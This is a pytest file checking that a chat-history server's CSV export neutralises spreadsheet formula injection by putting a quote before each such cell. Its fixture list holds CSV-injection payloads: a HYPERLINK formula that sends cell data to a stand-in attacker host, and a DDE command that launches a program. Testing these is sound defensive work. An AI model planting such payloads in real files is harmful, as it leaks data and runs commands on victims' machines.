"""Exported CSV opens in a spreadsheet as text: what people said never runs as a formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import httpx
import pytest

from tests.support.core_client import SECRET, encoded, report_body, report_headers
from tests.support.live_app import LiveApp, serving
from xiaozhi_server.config import Settings

AUTH = {"Authorization": "Bearer test-token"}
FORMULAS = [
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTAB first",
    "\rCR first",
]


@pytest.fixture
def app(tmp_path: object) -> Iterator[LiveApp]:
    settings = Settings.model_validate(
        {
            "storage": {"url": f"sqlite+aiosqlite:///{tmp_path}/export.db"},
            "auth": {"report_secret": SECRET, "api_tokens": ["test-token"], "admin_password": "pw"},
        }
    )
    with serving(settings) as live:
        session = "s-formulas"
        for n, content in enumerate([*FORMULAS, "plain = text"]):
            body = report_body(
                session_id=session, content=content, report_time=1_795_000_000_000 + n
            )
            answer = httpx.post(
                f"{live.base_url}/xiaozhi/agent/chat-history/report",
                content=encoded(body),
                headers=report_headers(),
            )
            assert answer.json()["code"] == 0
        yield live


def export(app: LiveApp, format: str) -> str:
    response = httpx.get(f"{app.base_url}/api/v2/export", params={"format": format}, headers=AUTH)
    assert response.status_code == 200
    return response.text


def test_csv_cells_that_start_like_a_formula_begin_with_a_quote(app: LiveApp) -> None:
    rows = list(csv.DictReader(io.StringIO(export(app, "csv").lstrip("\ufeff"))))
    assert [row["content"] for row in rows] == [
        *("'" + formula for formula in FORMULAS),
        "plain = text",
    ]


def test_jsonl_keeps_the_content_exactly(app: LiveApp) -> None:
    lines = [json.loads(line) for line in export(app, "jsonl").splitlines()]
    assert [line["content"] for line in lines] == [*FORMULAS, "plain = text"]


def test_the_transcript_keeps_the_content_exactly(app: LiveApp) -> None:
    assert FORMULAS[0] in export(app, "txt")
